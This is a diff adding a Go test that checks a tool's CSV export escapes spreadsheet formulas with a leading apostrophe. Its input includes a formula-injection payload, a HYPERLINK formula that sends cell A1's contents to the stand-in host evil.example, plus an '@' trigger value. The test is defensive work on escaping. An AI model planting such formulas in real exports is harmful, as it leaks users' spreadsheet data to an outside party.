@@ -11,6 +11,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/kexi/kexi/analysis"
 	"github.com/kexi/kexi/analysis/all"
 	"github.com/kexi/kexi/internal/refdata"
 )
@@ -201,5 +202,20 @@ func TestAnalyzeCDNOW(t *testing.T) {
 	}
 	if len(want) > 0 {
 		t.Errorf("figures missing: %v", want)
+	}
+}
+
+// TestAnalyzeCSVEscapesFormulas: kexi analyze --format csv writes text a spreadsheet would run
+// as a formula with an apostrophe in front, and numbers as they are.
+func TestAnalyzeCSVEscapesFormulas(t *testing.T) {
+	r := &analysis.Result{Tables: []analysis.Table{{Key: "t", Columns: []analysis.Column{{Key: "group", Type: "text"}, {Key: "value", Type: "number"}},
+		Rows: [][]any{{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, -5.0}, {"@x", 3.0}}}}}
+	var buf bytes.Buffer
+	if err := writeCSV(&buf, analysis.Info{Name: "x"}, r, "en"); err != nil {
+		t.Fatal(err)
+	}
+	want := "group,value\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",-5\n'@x,3\n"
+	if buf.String() != want {
+		t.Errorf("got\n%s\nwant\n%s", buf.String(), want)
 	}
 }
